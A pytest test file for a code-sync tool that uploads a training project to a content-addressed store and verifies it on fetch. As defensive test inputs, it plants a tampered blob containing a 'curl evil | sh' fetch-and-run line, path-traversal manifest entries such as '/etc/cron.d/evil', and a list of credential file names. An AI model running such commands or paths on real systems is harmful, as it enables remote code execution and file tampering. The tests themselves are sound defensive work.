"""Code sync: a project directory goes up content-addressed and comes back identical on the instance."""

from __future__ import annotations

import hashlib
import json
import logging
import os
import stat
from pathlib import Path

import fsspec
import pytest

from trainctl_lightning.errors import (
    ConfigError,
    ConflictError,
    IntegrityError,
    StoreError,
)
from trainctl_lightning.jobs.codesync import (
    CodeBundle,
    fetch_bundle,
    parse_manifest,
    scan_project,
    upload_bundle,
)
from trainctl_lightning.jobs.spec import CodeRef
from trainctl_lightning.jobs.store import JobStore
from trainctl_lightning.store.layout import blobs_url_in


def _write(root: Path, rel: str, data: str | bytes = "", mode: int | None = None) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        path.write_text(data)
    else:
        path.write_bytes(data)
    if mode is not None:
        path.chmod(mode)
    return path


def _paths(bundle: CodeBundle) -> set[str]:
    return {f.path for f in bundle.files}


def _tree(root: Path) -> dict[str, tuple[bytes, int]]:
    """Every regular file below root: relative path -> (content, permission bits)."""
    out = {}
    for p in root.rglob("*"):
        if p.is_file() and not p.is_symlink():
            out[p.relative_to(root).as_posix()] = (p.read_bytes(), stat.S_IMODE(p.stat().st_mode))
    return out


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A small training project: a script, a package, an executable, a duplicate file."""
    root = tmp_path / "proj"
    _write(root, "train.py", "print('train')\n")
    _write(root, "pkg/__init__.py", "")
    _write(root, "pkg/model.py", "class Model: ...\n")
    _write(root, "scripts/run.sh", "#!/bin/sh\necho hi\n", mode=0o755)
    _write(root, "configs/a.yaml", "lr: 0.1\n")
    _write(root, "configs/copy-of-a.yaml", "lr: 0.1\n")  # same content: one blob
    _write(root, "README.md", "# proj\n")
    return root


@pytest.fixture(params=["file", "memory", "s3"])
def store_root(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """A store root on a local folder, in memory, and on a real S3 endpoint (moto)."""
    if request.param == "s3":
        return request.getfixturevalue("s3").url("store")
    if request.param == "memory":
        return f"{request.getfixturevalue('memory_url')}/store"
    return f"file://{tmp_path}/store"


def _put_object(url: str, data: bytes) -> None:
    """Overwrite an object behind trainctl's back, as a bad actor or a broken disk would."""
    fs, path = fsspec.core.url_to_fs(url)
    fs.pipe_file(path, data)
    fs.invalidate_cache(path)


# ----------------------------------------------------------------------------- scanning


def test_gitignore_nested_gitignore_and_trainctlignore_reinclude(project: Path):
    _write(project, ".gitignore", "*.log\noutputs/\n/build\nwandb/\n")
    _write(project, "run.log", "noise")
    _write(project, "outputs/metrics.csv", "1,2")
    _write(project, "build/lib.so", "bin")
    _write(project, "pkg/build/keep.txt", "not the root build: '/build' is anchored")
    # nested .gitignore: patterns relative to its own folder, and it may re-include
    _write(project, "pkg/.gitignore", "/local.txt\n!important.log\n")
    _write(project, "pkg/local.txt", "ignored by pkg/.gitignore")
    _write(project, "pkg/sub/local.txt", "kept: '/local.txt' means pkg/local.txt only")
    _write(project, "pkg/important.log", "re-included by the nested file")
    _write(project, "wandb/run-1/files/config.yaml", "x")
    _write(project, "wandb/run-1/files/output.log", "x")
    # .trainctlignore comes after .gitignore: it can re-include (even inside an ignored folder) and exclude more
    _write(project, ".trainctlignore", "!outputs/metrics.csv\n!wandb/run-1/files/config.yaml\nREADME.md\n")

    paths = _paths(scan_project(project))

    assert "run.log" not in paths and "build/lib.so" not in paths and "pkg/local.txt" not in paths
    assert "wandb/run-1/files/output.log" not in paths
    assert "README.md" not in paths  # excluded by .trainctlignore although git keeps it
    assert {
        "pkg/build/keep.txt",
        "pkg/sub/local.txt",
        "pkg/important.log",
        "outputs/metrics.csv",
        "wandb/run-1/files/config.yaml",
        ".gitignore",
        ".trainctlignore",
        "train.py",
        "scripts/run.sh",
    } <= paths


def test_include_patterns_reinclude_what_the_ignore_files_exclude(project: Path):
    _write(project, ".gitignore", "data/\n*.csv\n")
    _write(project, "data/labels.csv", "a,b")
    _write(project, "data/raw.bin", "xx")
    _write(project, "vocab.csv", "w")

    assert not {"data/labels.csv", "vocab.csv"} & _paths(scan_project(project))
    assert {"data/labels.csv", "data/raw.bin"} <= _paths(scan_project(project, include=["data/"]))
    only = _paths(scan_project(project, include=["data/labels.csv", "vocab.csv"]))
    assert {"data/labels.csv", "vocab.csv"} <= only and "data/raw.bin" not in only


def test_default_skips_venvs_caches_git_and_symlinked_folders(project: Path, tmp_path: Path, caplog):
    _write(project, ".git/HEAD", "ref: refs/heads/main")
    _write(project, "pkg/__pycache__/model.cpython-311.pyc", b"\0")
    _write(project, "stray.pyc", b"\0")
    _write(project, "myenv/pyvenv.cfg", "home = /usr/bin")  # a virtualenv under any name
    _write(project, "myenv/lib/python3.11/site-packages/torch/__init__.py", "")
    _write(project, "node_modules/left-pad/index.js", "")
    _write(project, ".ipynb_checkpoints/nb-checkpoint.ipynb", "{}")
    _write(project, ".mypy_cache/x.json", "{}")
    _write(project, ".pytest_cache/v/cache", "{}")
    _write(project, ".trainctl-staging/x", "")
    outside = _write(tmp_path, "elsewhere/secret-notes.txt", "outside the project")
    (project / "linked-dir").symlink_to(project / "pkg", target_is_directory=True)
    (project / "data").symlink_to(outside.parent, target_is_directory=True)
    (project / "model-link.py").symlink_to(project / "pkg" / "model.py")
    (project / "notes.txt").symlink_to(outside)

    with caplog.at_level(logging.WARNING, logger="trainctl_lightning.jobs.codesync"):
        bundle = scan_project(project)

    assert _paths(bundle) == {
        "train.py",
        "pkg/__init__.py",
        "pkg/model.py",
        "scripts/run.sh",
        "configs/a.yaml",
        "configs/copy-of-a.yaml",
        "README.md",
        "model-link.py",  # a link to a file inside the project is stored as a regular file
    }
    linked = next(f for f in bundle.files if f.path == "model-link.py")
    assert linked.sha256 == hashlib.sha256(b"class Model: ...\n").hexdigest()
    # a link out of the project may point at ~/.aws/credentials: skipped and named with the secrets
    assert bundle.skipped_secrets == ["notes.txt"]
    assert "notes.txt" in caplog.text and "out of the project" in caplog.text


def test_secrets_are_skipped_and_named_unless_reincluded(project: Path, caplog):
    for rel in [
        ".env",
        ".env.production",
        "certs/server.pem",
        "tls.key",
        "id_rsa",
        "id_ed25519.pub",
        ".aws/credentials",
        ".netrc",
        "gcp/credentials.json",
        ".pypirc",
    ]:
        _write(project, rel, "s3cr3t")

    with caplog.at_level(logging.WARNING, logger="trainctl_lightning.jobs.codesync"):
        bundle = scan_project(project)

    assert bundle.skipped_secrets == sorted(
        [
            ".env",
            ".env.production",
            "certs/server.pem",
            "tls.key",
            "id_rsa",
            "id_ed25519.pub",
            ".aws/",
            ".netrc",
            "gcp/credentials.json",
            ".pypirc",
        ]
    )
    assert not any(b"s3cr3t" in (project / f.path).read_bytes() for f in bundle.files)
    warning = [r for r in caplog.records if "secrets" in r.getMessage()]
    assert len(warning) == 1 and ".env.production" in warning[0].getMessage() and ".aws/" in warning[0].getMessage()

    # explicitly re-included by name in .trainctlignore: uploaded on purpose
    _write(project, ".trainctlignore", "!.env.production\n!certs/server.pem\n")
    again = scan_project(project)
    assert {".env.production", "certs/server.pem"} <= _paths(again)
    assert ".env" in again.skipped_secrets and ".env.production" not in again.skipped_secrets
    # neither --include nor a blanket re-include overrides the secret rules
    assert ".env" not in _paths(scan_project(project, include=[".env", "*"]))
    _write(project, ".trainctlignore", "!*\n!**/*\n")
    assert ".env" in scan_project(project).skipped_secrets


def test_oversized_project_is_refused_naming_the_big_folder_and_nothing_is_uploaded(project: Path, tmp_path: Path):
    _write(project, "experiments/data/train.bin", os.urandom(1_200_000))
    _write(project, "checkpoints/last.ckpt", os.urandom(300_000))
    store = tmp_path / "store"

    with pytest.raises(ConfigError) as info:
        upload_bundle(scan_project(project, max_total_mb=1), f"file://{store}", f"file://{store}/run1")
    message = str(info.value)
    assert "\n" not in message
    assert f"project {project} is 1.5 MB to upload, over the 1 MB limit" in message
    assert "experiments/data/ 1.2 MB" in message and "checkpoints/ 300 kB" in message
    assert ".trainctlignore" in message and "--code-max-mb" in message
    assert not store.exists()

    over = r"1 file\(s\) over the 1 MB per-file limit: experiments/data/train.bin 1.2 MB"
    with pytest.raises(ConfigError, match=over):
        scan_project(project, max_total_mb=10, max_file_mb=1)

    # ignoring the data brings the project under the limit; raising the limit includes it on purpose
    _write(project, ".trainctlignore", "experiments/data/\n")
    assert "checkpoints/last.ckpt" in _paths(scan_project(project, max_total_mb=1))
    assert "experiments/data/train.bin" in _paths(scan_project(project, max_total_mb=2, include=["experiments/data/"]))


def test_missing_project_directory_is_a_config_error(tmp_path: Path):
    with pytest.raises(ConfigError, match=f"project directory {tmp_path / 'nope'} does not exist"):
        scan_project(tmp_path / "nope")
    _write(tmp_path, "file.py", "")
    with pytest.raises(ConfigError, match="is not a directory"):
        scan_project(tmp_path / "file.py")


def test_equal_trees_give_equal_manifests(project: Path, tmp_path: Path):
    twin = tmp_path / "twin"
    for f in scan_project(project).files:
        src = project / f.path
        _write(twin, f.path, src.read_bytes(), mode=stat.S_IMODE(src.stat().st_mode))

    a, b = scan_project(project), scan_project(twin)
    assert a.manifest_bytes() == b.manifest_bytes() and a.manifest_sha256() == b.manifest_sha256()
    manifest = json.loads(a.manifest_bytes())
    assert manifest["format"] == "trainctl.code/1"
    assert manifest["files"]["scripts/run.sh"]["mode"] == 0o755
    assert manifest["files"]["train.py"]["mode"] == 0o644
    assert a.total_bytes == sum(len((project / f.path).read_bytes()) for f in a.files)

    (twin / "train.py").write_text("print('changed')\n")
    assert scan_project(twin).manifest_sha256() != a.manifest_sha256()


# ----------------------------------------------------------------------------- upload and fetch


def test_upload_then_fetch_gives_an_identical_tree_with_modes(project: Path, store_root: str, tmp_path: Path):
    bundle = scan_project(project)
    run_url = f"{store_root}/run1"
    uploaded: list[int] = []

    code, stats = upload_bundle(bundle, store_root, run_url, progress=uploaded.append)

    assert isinstance(code, CodeRef)
    assert code.manifest_url == JobStore(run_url).objects.url_of("code.json")
    assert code.blobs_url.rstrip("/").endswith("/store/_code/blobs")
    assert code.manifest_sha256 == bundle.manifest_sha256()
    assert (code.files, code.bytes) == (len(bundle.files), bundle.total_bytes)
    assert (stats.files, stats.bytes_total) == (len(bundle.files), bundle.total_bytes)
    assert stats.files_uploaded == len(bundle.files) - 1  # the duplicate config shares a blob
    assert sum(uploaded) == stats.bytes_uploaded == bundle.total_bytes - len("lr: 0.1\n")

    dest = tmp_path / "instance" / "code"
    fetched = fetch_bundle(code, dest)

    assert _tree(dest) == _tree(project)
    assert stat.S_IMODE((dest / "scripts/run.sh").stat().st_mode) == 0o755
    assert (fetched.files, fetched.bytes_downloaded) == (len(bundle.files), stats.bytes_uploaded)


def test_a_large_file_is_streamed_up_and_verified(project: Path, store_root: str, tmp_path: Path):
    big = _write(project, "assets/tokenizer.bin", os.urandom(9 * 2**20))  # over the in-memory size
    uploaded: list[int] = []
    code, stats = upload_bundle(scan_project(project), store_root, f"{store_root}/run1", progress=uploaded.append)
    assert sum(uploaded) == stats.bytes_uploaded and stats.bytes_uploaded > big.stat().st_size

    fetch_bundle(code, tmp_path / "dest")
    assert (tmp_path / "dest/assets/tokenizer.bin").read_bytes() == big.read_bytes()


def test_a_file_changed_after_the_scan_is_not_stored_under_the_old_checksum(project: Path, store_root: str):
    bundle = scan_project(project)
    old_sha = next(f.sha256 for f in bundle.files if f.path == "train.py")
    (project / "train.py").write_text("print('edited while launching')\n")

    with pytest.raises(IntegrityError, match="train.py changed after it was scanned"):
        upload_bundle(bundle, store_root, f"{store_root}/run1", workers=1)

    fs, blobs = fsspec.core.url_to_fs(blobs_url_in(store_root))
    fs.invalidate_cache()
    assert not fs.exists(f"{blobs}/{old_sha}")
    assert not JobStore(f"{store_root}/run1").objects.exists("code.json")


def test_second_upload_of_an_unchanged_project_uploads_nothing(project: Path, store_root: str):
    _, first = upload_bundle(scan_project(project), store_root, f"{store_root}/run1")
    assert first.files_uploaded > 0

    _, second = upload_bundle(scan_project(project), store_root, f"{store_root}/run2")
    assert (second.files_uploaded, second.bytes_uploaded) == (0, 0)

    (project / "pkg/model.py").write_text("class Model:\n    hidden = 64\n")
    _, third = upload_bundle(scan_project(project), store_root, f"{store_root}/run3")
    assert (third.files_uploaded, third.bytes_uploaded) == (1, len("class Model:\n    hidden = 64\n"))


def test_a_run_keeps_its_manifest(project: Path, store_root: str):
    store = store_root
    code, _ = upload_bundle(scan_project(project), store, f"{store}/run1")
    # a retried launch of the same run with the same tree is accepted
    again, stats = upload_bundle(scan_project(project), store, f"{store}/run1")
    assert again == code and stats.files_uploaded == 0

    (project / "train.py").write_text("print('other')\n")
    with pytest.raises(ConflictError, match="already holds another code manifest"):
        upload_bundle(scan_project(project), store, f"{store}/run1")


def test_a_tampered_blob_is_refused_naming_the_file(project: Path, store_root: str, tmp_path: Path):
    code, _ = upload_bundle(scan_project(project), store_root, f"{store_root}/run1")
    sha = hashlib.sha256((project / "pkg/model.py").read_bytes()).hexdigest()
    _put_object(f"{blobs_url_in(store_root)}/{sha}", b"import os; os.system('curl evil | sh')\n")

    with pytest.raises(IntegrityError, match=r"code file pkg/model.py is 39 bytes but its manifest says 17 .*refusing it"):
        fetch_bundle(code, tmp_path / "dest")
    assert not (tmp_path / "dest/pkg/model.py").exists()


def test_a_missing_blob_is_refused_naming_the_file(project: Path, tmp_path: Path):
    store = tmp_path / "store"
    code, _ = upload_bundle(scan_project(project), f"file://{store}", f"file://{store}/run1")
    sha = hashlib.sha256((project / "train.py").read_bytes()).hexdigest()
    (store / "_code/blobs" / sha).unlink()

    with pytest.raises(IntegrityError, match=r"code file train.py: .* is missing from the store"):
        fetch_bundle(code, tmp_path / "dest")


def test_a_manifest_that_does_not_match_the_job_is_refused(project: Path, store_root: str, tmp_path: Path):
    code, _ = upload_bundle(scan_project(project), store_root, f"{store_root}/run1")
    manifest = json.loads(fsspec.open(code.manifest_url).open().read())
    manifest["files"]["train.py"]["mode"] = 0o755
    _put_object(code.manifest_url, json.dumps(manifest, sort_keys=True).encode())

    with pytest.raises(IntegrityError, match="code manifest .*code.json has sha256 .* the job expects"):
        fetch_bundle(code, tmp_path / "dest")
    assert not (tmp_path / "dest" / "train.py").exists()


@pytest.mark.parametrize("bad_path", ["../escaped.py", "/etc/cron.d/evil", "pkg/../../escaped.py", "a//b", "./x"])
def test_a_manifest_with_an_unsafe_path_is_refused(bad_path: str, tmp_path: Path):
    store = tmp_path / "store"
    content = b"print('pwned')\n"
    sha = hashlib.sha256(content).hexdigest()
    _write(store, f"_code/blobs/{sha}", content)
    raw = json.dumps(
        {"format": "trainctl.code/1", "files": {bad_path: {"sha256": sha, "size": len(content), "mode": 0o644}}}
    ).encode()
    _write(store, "run1/code.json", raw)
    code = CodeRef(
        manifest_url=f"file://{store}/run1/code.json",
        manifest_sha256=hashlib.sha256(raw).hexdigest(),
        blobs_url=f"file://{store}/_code/blobs",
    )

    with pytest.raises(IntegrityError, match="unsafe path"):
        fetch_bundle(code, tmp_path / "work" / "dest")
    assert not (tmp_path / "work" / "escaped.py").exists() and not (tmp_path / "escaped.py").exists()


def test_fetch_does_not_write_through_a_symlink_in_dest(project: Path, tmp_path: Path):
    store = f"file://{tmp_path}/store"
    code, _ = upload_bundle(scan_project(project), store, f"{store}/run1")
    dest, elsewhere = tmp_path / "dest", tmp_path / "elsewhere"
    dest.mkdir()
    elsewhere.mkdir()
    (dest / "pkg").symlink_to(elsewhere, target_is_directory=True)

    with pytest.raises(IntegrityError, match="would be written outside"):
        fetch_bundle(code, dest)
    assert not any(elsewhere.iterdir())


def test_fetch_reuses_the_local_cache_and_files_already_in_place(project: Path, store_root: str, tmp_path: Path):
    code, stats = upload_bundle(scan_project(project), store_root, f"{store_root}/run1")
    cache = tmp_path / "blob-cache"

    first = fetch_bundle(code, tmp_path / "a", cache_dir=cache)
    assert (first.bytes_downloaded, first.bytes_reused) == (stats.bytes_uploaded, code.bytes - stats.bytes_uploaded)

    second = fetch_bundle(code, tmp_path / "b", cache_dir=cache)
    assert (second.bytes_downloaded, second.bytes_reused) == (0, code.bytes)
    assert _tree(tmp_path / "b") == _tree(project)

    # a file edited in place is restored; the others are kept as they are
    (tmp_path / "b" / "train.py").write_text("edited on the instance\n")
    (tmp_path / "b" / "scripts/run.sh").chmod(0o644)
    third = fetch_bundle(code, tmp_path / "b", cache_dir=cache)
    assert third.bytes_downloaded == 0
    assert _tree(tmp_path / "b") == _tree(project)


def test_fetch_uses_the_default_cache_under_trainctl_cache_dir(project: Path, tmp_path: Path):
    store = f"file://{tmp_path}/store"
    code, _ = upload_bundle(scan_project(project), store, f"{store}/run1")
    fetch_bundle(code, tmp_path / "a")
    assert fetch_bundle(code, tmp_path / "b").bytes_downloaded == 0
    assert any((Path(os.environ["TRAINCTL_CACHE_DIR"]) / "blobs").rglob("*"))


def test_a_corrupt_cache_entry_is_downloaded_again(project: Path, tmp_path: Path):
    store = f"file://{tmp_path}/store"
    code, _ = upload_bundle(scan_project(project), store, f"{store}/run1")
    cache = tmp_path / "blob-cache"
    fetch_bundle(code, tmp_path / "a", cache_dir=cache)
    sha = hashlib.sha256((project / "train.py").read_bytes()).hexdigest()
    (cache / sha[:2] / sha).write_bytes(b"bit rot")

    again = fetch_bundle(code, tmp_path / "b", cache_dir=cache)
    assert again.bytes_downloaded == len("print('train')\n")
    assert _tree(tmp_path / "b") == _tree(project)


def test_a_missing_bucket_is_one_clear_store_error(project: Path, s3):
    with pytest.raises(StoreError) as info:
        upload_bundle(scan_project(project), "s3://no-such-bucket/runs", "s3://no-such-bucket/runs/run1")
    assert "\n" not in str(info.value) and "no-such-bucket" in str(info.value)


def test_a_manifest_entry_without_a_mode_reads_as_0644_and_setuid_is_refused():
    sha = hashlib.sha256(b"x").hexdigest()
    old = json.dumps({"format": "trainctl.code/1", "files": {"a.py": {"sha256": sha, "size": 1}}}).encode()
    [entry] = parse_manifest(old)
    assert entry.mode == 0o644
    for bad in (0o4755, -1, "0644", True):
        raw = json.dumps({"format": "trainctl.code/1", "files": {"a.py": {"sha256": sha, "size": 1, "mode": bad}}})
        with pytest.raises(IntegrityError, match=r"entry 'a.py' has mode .*expected permission bits from 0 to 0o777"):
            parse_manifest(raw.encode())


def test_a_symlink_to_a_secret_or_out_of_the_project_is_skipped_and_named(project: Path, tmp_path: Path):
    _write(project, "config/.env", "TOKEN=1")
    outside = _write(tmp_path, "elsewhere/token.txt", "outside")
    (project / "settings.cfg").symlink_to(project / "config" / ".env")
    (project / "token.txt").symlink_to(outside)
    bundle = scan_project(project)
    assert {"settings.cfg", "token.txt", "config/.env"} <= set(bundle.skipped_secrets)
    assert not {"settings.cfg", "token.txt"} & _paths(bundle)
